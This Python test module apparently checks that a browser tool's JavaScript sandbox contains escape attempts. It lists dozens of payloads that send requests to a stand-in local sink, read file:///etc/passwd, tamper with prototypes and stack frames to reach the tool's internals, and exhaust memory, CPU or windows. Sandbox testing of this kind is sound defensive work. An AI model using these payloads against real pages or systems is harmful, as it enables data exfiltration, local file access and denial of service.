"""Attempts of programs to leave the page in which `run` executes them, and a sink that sees them.

In the code, ``SINK`` is the host and port of the sink. A program returns a text with ``ESCAPED`` if
it reached something by itself.
"""

import socket
import threading
from collections.abc import Generator
from contextlib import contextmanager, suppress

import attrs

PRELUDE = """
const wait = (ms = 150) => new Promise((resolve) => { setTimeout(resolve, ms); });
const add = (name, properties) => {
  const element = Object.assign(document.createElement(name), properties);
  document.documentElement.append(element);
  return element;
};
const url = 'http://SINK/';
"""


@attrs.frozen
class Escape:
    """An attempt: a program, by a number that stays the same."""

    number: int
    name: str
    code: str

    def program(self, sink: str) -> str:
        """Return the program, which ends shortly after the attempt."""
        return f"{PRELUDE}{self.code}\nawait wait();\nreturn 'contained';".replace("SINK", sink)


REQUESTS = (
    Escape(1, "fetch", "await fetch(url).then(() => { throw 'ESCAPED'; }, () => 0);"),
    Escape(
        2,
        "fetch that outlives the page",
        "fetch(url, {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'}).catch(() => 0);",
    ),
    Escape(
        3,
        "XMLHttpRequest",
        "const one = new XMLHttpRequest(); one.open('GET', url, false);"
        "try { one.send(); return 'ESCAPED'; } catch {}",
    ),
    Escape(4, "WebSocket", "try { new WebSocket('ws://SINK/'); } catch {}"),
    Escape(5, "WebSocketStream", "try { new WebSocketStream('ws://SINK/'); } catch {}"),
    Escape(6, "EventSource", "try { new EventSource(url); } catch {}"),
    Escape(7, "sendBeacon", "navigator.sendBeacon(url, 'x');"),
    Escape(
        8,
        "WebRTC",
        "const one = new RTCPeerConnection({iceServers: [{urls: 'stun:SINK'}]});"
        "one.createDataChannel('x'); await one.setLocalDescription(await one.createOffer());",
    ),
    Escape(
        9,
        "WebRTC of a frame",
        "const one = add('iframe', {});"
        "const two = new one.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:SINK'}]});"
        "two.createDataChannel('x'); await two.setLocalDescription(await two.createOffer());",
    ),
    Escape(10, "WebTransport", "try { new WebTransport('https://SINK/'); } catch {}"),
    Escape(11, "image", "add('img', {src: url}); new Image().src = url;"),
    Escape(12, "script", "add('script', {src: url});"),
    Escape(13, "inline script", "add('script', {text: `fetch('${url}')`});"),
    Escape(
        14, "event handler", "add('img', {src: 'x'}).setAttribute('onerror', `fetch('${url}')`);"
    ),
    Escape(15, "style sheet", "add('link', {rel: 'stylesheet', href: url});"),
    Escape(16, "import in a style", "add('style', {textContent: `@import '${url}';`});"),
    Escape(
        17,
        "image in a style",
        "add('p', {textContent: 'x'}).style.backgroundImage = `url(${url})`;",
    ),
    Escape(18, "font", "await new FontFace('x', `url(${url})`).load().catch(() => 0);"),
    Escape(19, "frame", "add('iframe', {src: url});"),
    Escape(20, "frame with markup", "add('iframe', {srcdoc: `<script>fetch('${url}')</script>`});"),
    Escape(
        21,
        "realm of a frame",
        "await add('iframe', {}).contentWindow.fetch(url); return 'ESCAPED';",
    ),
    Escape(22, "object", "add('object', {data: url, type: 'text/html'});"),
    Escape(23, "embed", "add('embed', {src: url, type: 'text/html'});"),
    Escape(
        24, "media", "add('video', {src: url, poster: url, autoplay: true}); new Audio(url).play();"
    ),
    Escape(
        25,
        "SVG",
        "add('div', {innerHTML: `<svg><image href='${url}'/><use href='${url}#x'/></svg>`});",
    ),
    Escape(26, "prefetch", "add('link', {rel: 'prefetch', href: url});"),
    Escape(27, "preload", "add('link', {rel: 'preload', as: 'fetch', href: url});"),
    Escape(28, "module preload", "add('link', {rel: 'modulepreload', href: url});"),
    Escape(29, "preconnect", "add('link', {rel: 'preconnect', href: url});"),
    Escape(30, "name lookup", "add('link', {rel: 'dns-prefetch', href: '//SINK/'});"),
    Escape(
        31,
        "speculation rules",
        "add('script', {type: 'speculationrules',"
        "text: JSON.stringify({prerender: [{source: 'list', urls: [url]}]})});",
    ),
    Escape(
        32,
        "manifest and icon",
        "add('link', {rel: 'manifest', href: url}); add('link', {rel: 'icon', href: url});",
    ),
    Escape(33, "form", "add('form', {action: url}).submit();"),
    Escape(
        34,
        "form in a new window",
        "add('form', {action: url, method: 'POST', target: '_blank'}).submit();",
    ),
    Escape(35, "ping", "add('a', {href: '#x', ping: url}).click();"),
    Escape(36, "location", "location.href = url;"),
    Escape(37, "refresh", "add('meta', {httpEquiv: 'refresh', content: `0;url=${url}`});"),
    Escape(38, "another window", "if (window.open(url)) return 'ESCAPED';"),
    Escape(39, "another window without opener", "window.open(url, '_blank', 'noopener');"),
    Escape(
        40,
        "realm of another window",
        "await window.open('about:blank').fetch(url); return 'ESCAPED';",
    ),
    Escape(41, "link to another window", "add('a', {href: url, target: '_blank'}).click();"),
    Escape(42, "download", "add('a', {href: url, download: 'x'}).click();"),
    Escape(
        43,
        "worker",
        "new Worker(URL.createObjectURL(new Blob([`fetch('${url}')`]))); new Worker(url);",
    ),
    Escape(44, "worker with a data URL", "new Worker(`data:text/javascript,fetch('${url}')`);"),
    Escape(45, "shared worker", "new SharedWorker(`data:text/javascript,fetch('${url}')`);"),
    Escape(46, "service worker", "await navigator.serviceWorker.register(url);"),
    Escape(47, "worklet", "await CSS.paintWorklet.addModule(url); return 'ESCAPED';"),
    Escape(48, "import", "await import(url); return 'ESCAPED';"),
    Escape(49, "import of text", "await import(`data:text/javascript,fetch('${url}')`);"),
)
"""Attempts to send something to another host."""

PLACES = (
    Escape(50, "file", "await fetch('file:///etc/passwd'); return 'ESCAPED';"),
    Escape(51, "file as the location", "location.href = 'file:///etc/passwd';"),
    Escape(52, "page of the browser", "location.href = 'chrome://version/';"),
    Escape(53, "data as the location", "location.href = 'data:text/html,<script>1</script>';"),
    Escape(
        54,
        "blob as the location",
        "location.href = URL.createObjectURL(new Blob(['x'], {type: 'text/html'}));",
    ),
    Escape(55, "script as the location", "location.href = `javascript:fetch('${url}')`;"),
    Escape(
        56,
        "channel to pages",
        "const one = new BroadcastChannel('pages'); const got = [];"
        "one.onmessage = (event) => got.push(event.data); one.postMessage('ping'); await wait(300);"
        "if (got.length) return 'ESCAPED';",
    ),
    Escape(
        57,
        "opener and parent",
        "if (window.opener || parent !== window || top !== window || frames.length)"
        "return 'ESCAPED';",
    ),
    Escape(58, "cookies", "if (document.cookie !== undefined) return 'ESCAPED';"),
    Escape(59, "local storage", "localStorage.setItem('x', 'y'); return 'ESCAPED';"),
    Escape(60, "session storage", "sessionStorage.setItem('x', 'y'); return 'ESCAPED';"),
    Escape(61, "database", "indexedDB.open('x'); return 'ESCAPED';"),
    Escape(62, "caches", "await caches.open('x'); return 'ESCAPED';"),
    Escape(
        63,
        "file system",
        "await navigator.storage.getDirectory(); return 'ESCAPED';",
    ),
    Escape(64, "clipboard", "await navigator.clipboard.writeText('x'); return 'ESCAPED';"),
    Escape(65, "locks", "await navigator.locks.request('x', () => 0); return 'ESCAPED';"),
    Escape(
        66,
        "position",
        "await new Promise((done, no) => navigator.geolocation.getCurrentPosition(done, no));"
        "return 'ESCAPED';",
    ),
    Escape(
        67,
        "saved file",
        "add('a', {href: URL.createObjectURL(new Blob(['x'])), download: 'x.txt'}).click();",
    ),
    Escape(
        68,
        "dialogs",
        "alert('x'); print(); if (confirm('x') || prompt('x') !== null) return 'ESCAPED';",
    ),
    Escape(69, "unknown tab", "await tab('tab-999').observe(); return 'ESCAPED';"),
    Escape(70, "tab of the owner", "await tab('owner-1').observe(); return 'ESCAPED';"),
    Escape(71, "tool that does not exist", "await charlotte.constructor({}); return 'ESCAPED';"),
    Escape(72, "run in run", "await charlotte.run({code: '1'}); return 'ESCAPED';"),
    Escape(
        73,
        "run in a batch in run",
        "const one = await charlotte.batch({steps: [{tool: 'run', arguments: {code: '1'}}]});"
        "if (!one.results[0].error) return 'ESCAPED';",
    ),
    Escape(
        74,
        "function of Charlotte in the page",
        "if (Reflect.ownKeys(globalThis).some((name) => /charlotte|binding/i.test(String(name))))"
        "return 'ESCAPED';",
    ),
    Escape(75, "code from text", "tab.observe.constructor('return 1')(); return 'ESCAPED';"),
    Escape(
        76,
        "frames of the stack",
        "Error.prepareStackTrace = (_, sites) => sites.map((site) => site.getFunction());"
        "const one = await tab('tab-999').observe().catch((error) => error.stack);"
        "if (one.some((each) => typeof each === 'function' && /settle/.test(each)))"
        "return 'ESCAPED';",
    ),
    Escape(
        77,
        "callers",
        "function spy() { return spy.caller; }"
        "if (/settle/.test(String(await tab({toString: spy}).observe().catch(() => 0))))"
        "return 'ESCAPED';",
    ),
    Escape(
        78,
        "other prototypes",
        "const got = []; const spy = function (...given) { got.push(this, given); };"
        "for (const name of ['value', 'error', 'call', 'end', 'text', 'next', '0'])"
        "Object.defineProperty(Object.prototype, name, {set: spy, get: spy, configurable: true});"
        "JSON.stringify = JSON.parse = Map.prototype.set = WeakMap.prototype.set = spy;"
        "String.prototype.slice = Function.prototype.call = Function.prototype.bind = spy;"
        "await tab('tab-999').observe().catch(() => 0); await wait();"
        "if (got.flat(9).some((each) => each?.settle)) { throw 'ESCAPED'; }",
    ),
    Escape(
        79,
        "another promise",
        "const kept = Promise; Promise = class {};"
        "await tab('tab-999').observe().catch(() => 0); Promise = kept;",
    ),
)
"""Attempts to reach files, storage, pages, other sessions, or the part that faces Charlotte."""

LOADS = (
    Escape(80, "endless loop", "for (;;);"),
    Escape(81, "endless microtasks", "const one = () => Promise.resolve().then(one); await one();"),
    Escape(82, "heap", "const one = []; for (;;) one.push('x'.repeat(1000) + one.length);"),
    Escape(83, "buffers", "const one = []; for (;;) one.push(new Uint8Array(3e6).fill(1));"),
    Escape(
        84,
        "elements",
        "for (;;) add('p', {textContent: 'x'.repeat(100)});",
    ),
    Escape(
        85,
        "calls",
        "await Promise.all(Array.from({length: 5000}, () => charlotte.tabs({})));return 'ESCAPED';",
    ),
    Escape(86, "long value", "return 'x'.repeat(3e8);"),
    Escape(87, "long error", "throw 'x'.repeat(3e8);"),
    Escape(88, "long arguments", "await tab.find({text: 'x'.repeat(3e8)}); return 'ESCAPED';"),
    Escape(89, "long name", "await tab['x'.repeat(3e7)]({}); return 'ESCAPED';"),
    Escape(90, "long line", "console.log('x'.repeat(3e8)); return 1;"),
    Escape(91, "endless lines", "for (;;) console.log('x'.repeat(900));"),
    Escape(92, "recursion", "const one = () => one() + 1; one();"),
    Escape(
        93,
        "deep value",
        "let one = {}; for (let i = 0; i < 1e5; i += 1) one = {one}; return one;",
    ),
    Escape(94, "endless value", "const one = {}; one.one = one; return one;"),
    Escape(95, "end of the page", "window.close(); window.stop();"),
    Escape(96, "pause", "debugger;"),
    Escape(97, "long address", "location.href = 'http://SINK/' + 'x'.repeat(3e8);"),
    Escape(98, "long state", "history.pushState(0, '', '?' + 'x'.repeat(1e6)); return 1;"),
    Escape(99, "long promise", "Promise.prototype.then = (done) => done('x'.repeat(3e8));"),
    Escape(
        100,
        "long iteration",
        "Array.prototype[Symbol.iterator] = () => { throw 'x'.repeat(3e8); };"
        "await tab('tab-999').observe().catch(() => 0);",
    ),
    Escape(101, "windows", "for (let i = 0; i < 1000; i += 1) window.open('about:blank');"),
    Escape(102, "frames", "for (let i = 0; i < 50; i += 1) add('iframe', {src: url});"),
    Escape(103, "timers", "for (let i = 0; i < 1e6; i += 1) setTimeout(() => 0);"),
    Escape(104, "dialogs without end", "for (;;) alert('x');"),
)
"""Attempts to take the time, the memory or the connection of others."""


@attrs.define(eq=False)
class Sink:
    """A server that sees connections and datagrams, and answers nothing."""

    host: str
    seen: list[str] = attrs.field(factory=list[str])


@contextmanager
def open_sink() -> Generator[Sink]:
    """Listen at one TCP and UDP port during the block."""
    with (
        socket.create_server(("127.0.0.1", 0)) as stream,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
    ):
        address = stream.getsockname()
        datagrams.bind(address)
        sink = Sink(f"127.0.0.1:{address[1]}")

        def accept() -> None:
            with suppress(OSError):
                while True:
                    connection, _ = stream.accept()
                    sink.seen.append("connection")
                    connection.close()

        def receive() -> None:
            with suppress(OSError):
                while datagrams.recvfrom(65_536):
                    sink.seen.append("datagram")

        threads = [threading.Thread(target=work, daemon=True) for work in (accept, receive)]
        for thread in threads:
            thread.start()
        try:
            yield sink
        finally:
            for each in (stream, datagrams):
                with suppress(OSError):
                    each.shutdown(socket.SHUT_RDWR)
